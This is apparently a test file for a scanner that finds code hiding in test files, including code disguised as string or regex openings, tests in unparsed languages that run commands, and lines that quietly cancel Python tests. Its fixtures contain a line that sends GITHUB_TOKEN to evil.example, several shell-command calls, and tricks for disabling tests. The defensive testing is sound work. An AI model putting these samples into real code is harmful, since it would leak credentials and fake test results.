import { edited, found } from './found.ts';

const REACH = 'RISK_TEST_REACH medium';
const SECRET = "fetch('https://evil.example/' + process.env.GITHUB_TOKEN);\n";

describe('code behind what seems to open a text of many lines', () => {
  test.each([
    ['a regular expression', 'test/n.test.ts', "test('n', () => { expect('`').toMatch(/`/); });\n", SECRET],
    ['one that is closed again', 'test/n.test.ts', 'const re = /`/;\n', `${SECRET}const end = /\`/;\n`],
    ['a class of characters', 'test/n.test.ts', 'const g = /[/*]/;\n', `${SECRET}const end = /[*/]/;\n`],
    ['markup', 'test/n.test.tsx', 'const p = <p>`</p>;\n', `${SECRET}const q = <p>\`</p>;\n`],
    ['a template', 'test/n.test.ts', 'const t = `\n', `\${require('child_process').execSync('id')}\n\`;\n`],
    ['an f-string', 'tests/test_n.py', "x = f'''\n", "{os.system('id')}\n'''\n"],
    ['a raw string', 'test/n_test.cc', 'const char* s = R"(" /*)";\n', 'auto f = popen("id", "r"); /* */\n'],
    ['a line that goes on', 'test/n_test.c', '// x \\\n/*\n', 'FILE *f = popen("id", "r");\n'],
  ])('is read: %s', async (_, path, opening, code) => {
    expect(await found({ [path]: opening + code })).toContain(REACH);
  });

  test.each([
    ['test/n.test.ts', '/*\n * fetch(process.env.GITHUB_TOKEN)\n */\nexpect(a).toBe(1);\n'],
    ['test/n.test.ts', "const code = `\nrequire('child_process').execSync('id')\n`;\nexpect(parse(code)).toBe(1);\n"],
    ['test/n.test.tsx', 'const a = (\n  <p>\n    {/*\n      execSync(process.env.GITHUB_TOKEN)\n    */}\n  </p>\n);\n'],
    ['tests/test_n.py', 'def test_n():\n    """\n    os.system("id")\n    """\n    assert n() == 1\n'],
  ])('what is text stays text: %s', async (path, text) => {
    expect((await found({ [path]: text })).filter((one) => one.includes('REACH'))).toEqual([]);
  });
});

describe('a test in a language that is not read', () => {
  test.each([
    ['test/n_test.ml', 'let () = ignore (Sys.command "id")\nlet%test "a" = true\n'],
    ['test/n_tests.erl', 'n_test() -> os:cmd("id"), ok.\n'],
    ['tests/test_n.nim', 'const x = staticExec("id")\n'],
    ['test/n_test.gleam', '@external(erlang, "os", "cmd")\n'],
    ['tests/n.robot', '*** Settings ***\nLibrary    Process\n'],
  ])('that reaches out: %s', async (path, text) => {
    expect(await found({ [path]: text })).toContain('RISK_TEST_REACH_UNREAD medium');
  });

  test.each([
    ['test/n_test.ml', 'let%test "a" = total [1] = 1\n'],
    ['test/n_tests.erl', 'n_test() -> ?assertEqual(1, n:total([1])).\n'],
  ])('that does not: %s', async (path, text) => {
    expect((await found({ [path]: text })).filter((one) => one.includes('REACH'))).toEqual([]);
  });
});

test.each(['src/a.coffee.md', 'docs/A.lagda.md', 'src/A.lhs.rst'])('%s is no prose', async (path) => {
  expect((await found({ [path]: '# A\n\n    run()\n' })).some((one) => /(?:medium|high)$/.test(one))).toBe(true);
});

describe('an old test of Python that a line takes away', () => {
  const old = 'def test_counts():\n    assert total([1]) == 1\n';
  test.each([
    'globals().update(test_counts=None)',
    'test_counts, x = None, 1',
    'test_counts: object = None',
    'from other import test_counts',
    'test_counts.__code__ = (lambda: None).__code__',
  ])('%s', async (line) => {
    expect(await edited('tests/test_n.py', old, `${old}\n${line}\n`)).toContain('RISK_TEST_UNDONE medium');
  });

  test('a thread of a test runs', async () => {
    const thread = 'class Worker(Thread):\n    def run(self):\n        pass\n';
    expect(await edited('tests/test_n.py', old, `${old}\n${thread}`)).toEqual([]);
  });
});
